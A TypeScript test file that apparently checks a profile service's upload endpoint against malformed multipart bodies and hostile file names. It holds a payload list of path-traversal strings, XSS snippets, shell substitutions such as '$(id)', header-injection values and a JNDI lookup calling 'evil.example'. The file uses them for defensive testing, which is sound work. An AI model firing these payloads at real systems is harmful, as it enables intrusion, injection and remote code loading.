import { beforeAll, describe, expect, it } from 'vitest';
import * as getMyFieldFile from '../../functions/profiles/get-my-field-file.ts';
import { listObjects } from '../../shared/storage/objects.ts';
import { useAttack } from '../support/attack.ts';
import { pdf } from '../support/files.ts';
import { asMe, form, putMyField, recordOf, withUser } from '../support/profiles.ts';
import { addFields } from '../support/schemas.ts';
import type { Tenant } from '../support/tenants.ts';
import { processAll } from '../support/uploads.ts';
import { useTenant } from '../support/use-tenant.ts';

const tenant = useTenant();
let me: Tenant;

beforeAll(async () => {
  await addFields(tenant, { contract: { type: 'document' } });
  me = await withUser(tenant);
});

const VALUE = 'Content-Disposition: form-data; name="value"';
const part = (boundary: string, value: string, head = VALUE) =>
  `--${boundary}\r\n${head}\r\n\r\n${value}\r\n`;
/** Sends a form as it is to the field `first_name`. */
const send = (type: string, body: string) =>
  putMyField(me, 'first_name', { headers: { 'content-type': type }, body: Buffer.from(body, 'latin1') });

it('a part in Latin-1 changes nothing, and the answer names the field', async () => {
  const answer = await send('multipart/form-data; boundary=b', `${part('b', 'M\xfcller')}--b--\r\n`);
  expect(answer).toBeApiError(400, 'malformed_body');
  expect(answer.body['detail']).toContain('The field value is not UTF-8');
});

it.each(['iso-8859-1', '"windows-1252"', 'UTF-16', 'utf-7'])(
  'a part with the charset %s changes nothing, also if its bytes are UTF-8',
  async (charset) => {
    const head = `${VALUE}\r\nContent-Type: text/plain; charset=${charset}`;
    const body = `${part('b', 'Muller', head)}--b--\r\n`;
    const answer = await send('multipart/form-data; boundary=b', body);
    expect(answer).toBeApiError(415, 'unsupported_media_type');
    const named = charset.replaceAll('"', '');
    expect(answer.body['detail']).toContain(`The field value has the charset ${named}`);
  },
);

it('a part with the charset UTF-8 is read', async () => {
  const head = `${VALUE}\r\nContent-Type: text/plain; charset=UTF-8`;
  const answer = await send('multipart/form-data; boundary=b', `${part('b', 'Muller', head)}--b--\r\n`);
  expect(answer.status).toBe(200);
});

describe('the boundary of a form', () => {
  const attempt = useAttack(
    'multipart: boundaries, headers and parts',
    '400 or 415, or the value of one part',
  );
  const own = (value: string) => `${part('b', value)}--b--\r\n`;
  const TYPE = 'multipart/form-data; boundary=b';

  /** Each has the value `seen` if it has any. `smuggled` is what another reader would find. */
  const TRICKS: readonly (readonly [trick: string, type: string, body: string])[] = [
    ['none', 'multipart/form-data', own('smuggled')],
    ['empty', 'multipart/form-data; boundary=', own('smuggled')],
    ['empty and quoted', 'multipart/form-data; boundary=""', '--\r\n\r\nsmuggled\r\n----\r\n'],
    [
      'twice',
      'multipart/form-data; boundary=b; boundary=c',
      `${own('seen')}${part('c', 'smuggled')}--c--\r\n`,
    ],
    ['of another case', 'multipart/form-data; BOUNDARY=b', own('seen')],
    ['quoted', 'multipart/form-data; boundary="b"', own('seen')],
    ['escaped', 'multipart/form-data; boundary="\\b"', own('seen')],
    ['continued', 'multipart/form-data; boundary*0=b; boundary*1=c', own('smuggled')],
    ['encoded', "multipart/form-data; boundary*=utf-8''b", own('smuggled')],
    ['of a pattern', 'multipart/form-data; boundary=.*', own('smuggled')],
    ['of 1,000 characters', `multipart/form-data; boundary=${'b'.repeat(1_000)}`, own('smuggled')],
    ['with a line end', 'multipart/form-data; boundary="b\\r\\nX-Injected: 1"', own('smuggled')],
    ['inside a value', TYPE, `${part('b', 'seen --b not the end')}--b--\r\n`],
    ['that begins with another', TYPE, `${part('b', 'seen')}${part('bc', 'smuggled')}--b--\r\n`],
    ['nested', TYPE, own(`${VALUE}\r\n\r\nseen`)],
    ['without an end', TYPE, part('b', 'smuggled')],
    ['with ends of LF', TYPE, own('smuggled').replaceAll('\r\n', '\n')],
    ['with ends of CR', TYPE, own('smuggled').replaceAll('\r\n', '\r')],
    ['after a preamble', TYPE, `smuggled\r\n${own('seen')}`],
    ['before an epilogue', TYPE, `${own('seen')}${part('b', 'smuggled')}--b--\r\n`],
    ['of a part with two names', TYPE, `${part('b', 'smuggled', `${VALUE}; name="other"`)}--b--\r\n`],
    ['of two parts of one name', TYPE, `${part('b', 'seen')}${part('b', 'smuggled')}--b--\r\n`],
    [
      'of two headers',
      TYPE,
      `${part('b', 'smuggled', `${VALUE}\r\n${VALUE.replace('value', 'x')}`)}--b--\r\n`,
    ],
    ['of a folded header', TYPE, `${part('b', 'smuggled', VALUE.replace('; ', ';\r\n '))}--b--\r\n`],
    ['of an attachment', TYPE, `${part('b', 'smuggled', VALUE.replace('form-data', 'attachment'))}--b--\r\n`],
    ['of a name with NUL', TYPE, `${part('b', 'smuggled', VALUE.replace('value', 'value\0'))}--b--\r\n`],
    ['of a name with a quote', TYPE, `${part('b', 'smuggled', VALUE.replace('value', 'value%22'))}--b--\r\n`],
    ['of __proto__', TYPE, `${part('b', 'smuggled', VALUE.replace('value', '__proto__'))}--b--\r\n`],
    ['of 100 parts', TYPE, `${part('b', 'smuggled', VALUE.replace('value', 'x')).repeat(100)}--b--\r\n`],
    ['of base64', TYPE, `${part('b', 'c2Vlbg==', `${VALUE}\r\nContent-Transfer-Encoding: base64`)}--b--\r\n`],
    [
      'of UTF-7',
      TYPE,
      `${part('b', '+AHM-een', `${VALUE}\r\nContent-Type: text/plain; charset=utf-7`)}--b--\r\n`,
    ],
    ['of broken UTF-8', TYPE, own('seen\xff\xfe')],
    ['of a file where a text belongs', TYPE, `${part('b', 'smuggled', `${VALUE}; filename="x"`)}--b--\r\n`],
    ['of multipart/mixed', 'multipart/mixed; boundary=b', own('smuggled')],
    ['of multipart/form-data in JSON', 'application/json; boundary=b', own('smuggled')],
    ['after a comma', 'multipart/form-data; boundary=b, application/json', own('smuggled')],
  ];

  it.each(TRICKS)('%s hides no value and reveals nothing of the service', async (_, type, body) => {
    await attempt(async () => {
      const { version } = { ...(await recordOf(me, me.userId)) };
      const answer = await send(type, body);
      expect([200, 400, 415]).toContain(answer.status);
      expect(JSON.stringify([answer.headers, answer.body])).not.toMatch(
        /smuggled|x-injected|node_modules|undici/i,
      );
      const record = await recordOf(me, me.userId);
      if (answer.status !== 200) expect(record?.version).toBe(version);
      expect(Object.keys(Object.prototype)).toEqual([]);
    });
  });
});

describe('the name of a file', () => {
  const attempt = useAttack(
    'names of files: folders, types, headers',
    'the last part of the name, in no path and no header',
  );
  const HEADER_TRICKS = [
    'x\r\nX-Injected: 1',
    'x%0d%0aX-Injected:%201',
    'x"; filename="y',
    "x'; filename*=UTF-8''y",
    'x;y=z',
    '=?utf-8?q?x?=',
  ];
  const NAMES = [
    ...[
      '../../../etc/passwd',
      '..\\..\\windows\\system.ini',
      '/etc/passwd',
      'C:\\boot.ini',
      '....//....//x',
      '\\\\host\\share\\x',
    ],
    ...[
      '..%2f..%2fetc%2fpasswd',
      '%2e%2e%5cx',
      '..%252fx',
      '..%c0%afx',
      '\uff0e\uff0e\uff0fx',
      '..\u2215x',
      '..;/x',
      'x/.',
    ],
    ...[
      'x.pdf\0.html',
      'x.pdf%00.html',
      'x.pdf.html',
      'x.html;.pdf',
      'x.pdf:$DATA',
      'CON.pdf',
      '.htaccess',
      '~root',
      '-rf',
    ],
    ...HEADER_TRICKS,
    ...[
      '<script>alert(1)</script>',
      '"><img src=x onerror=alert(1)>',
      '$(id)',
      '`id`',
      '| id',
      '%24%7bjndi:ldap://evil.example/x%7d',
      '{{7*7}}',
    ],
    ...['x\u202efdp.exe', 'x\u200b', 'x'.repeat(5_000), '\ud800x', '__proto__', 'constructor', '%', '%zz'],
  ];

  /** Returns the name that the service keeps of a file; undefined if it refuses the name. */
  async function keptName(name: string): Promise<string | undefined> {
    const before = new Set(await listObjects(''));
    const { status } = await putMyField(me, 'contract', await form(pdf(), name));
    expect([200, 400], name).toContain(status);
    const added = (await listObjects('')).filter((key) => !before.has(key));
    expect(added, name).toHaveLength(status === 200 ? 1 : 0);
    for (const key of added) expect(key).toMatch(new RegExp(`^uploads/${tenant.app}/upload_[0-9a-f]{32}$`));
    return status === 200 ? (await recordOf(me, me.userId))?.files?.['contract']?.filename : undefined;
  }

  it('is part of no key, and is kept without folders and invisible characters', async () => {
    for (const name of NAMES)
      await attempt(async () => {
        const kept = (await keptName(name)) ?? 'refused';
        expect(kept).not.toMatch(/[/\\]|\p{C}/u);
        expect(kept.length).toBeLessThanOrEqual(255);
      });
  });

  it.each(HEADER_TRICKS)('%j adds nothing to the header that names the file', async (name) => {
    await attempt(async () => {
      await putMyField(me, 'contract', await form(pdf(), name));
      await processAll(tenant.app);
      const { status, headers } = await asMe(getMyFieldFile, me, { params: { field: 'contract' } });
      expect(status).toBe(200);
      expect(headers['content-disposition']).toMatch(/^attachment; filename\*=UTF-8''[\w.!#$&+^`|~%-]+$/);
      expect(Object.keys(headers)).not.toContain('x-injected');
    });
  });
});
